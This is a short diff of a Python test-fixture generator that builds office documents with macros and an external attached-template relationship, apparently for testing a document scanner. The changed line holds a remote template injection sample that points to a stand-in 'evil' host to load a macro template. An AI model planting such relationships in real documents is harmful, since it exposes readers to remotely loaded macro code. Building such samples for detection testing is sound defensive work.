@@ -442,7 +442,7 @@ def offices():
     docx, odt = archives.docx, archives.odt
     yield document("office", "macros.docx", docx(**{"word/vbaProject.bin": b"\xd0\xcf"}), "macros")
     yield document("office", "basic.odt", odt(**{"Basic/script-lc.xml": "<a/>"}), "macros")
-    template = '<Relationship Type="http://schemas/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
+    template = '<Relationship Type="http://schemas/attachedTemplate" Target="//evil/x.dotm" TargetMode="External"/>'
     yield document(
         "office", "template.docx", docx(**{"word/_rels/settings.xml.rels": template}), "macros"
     )
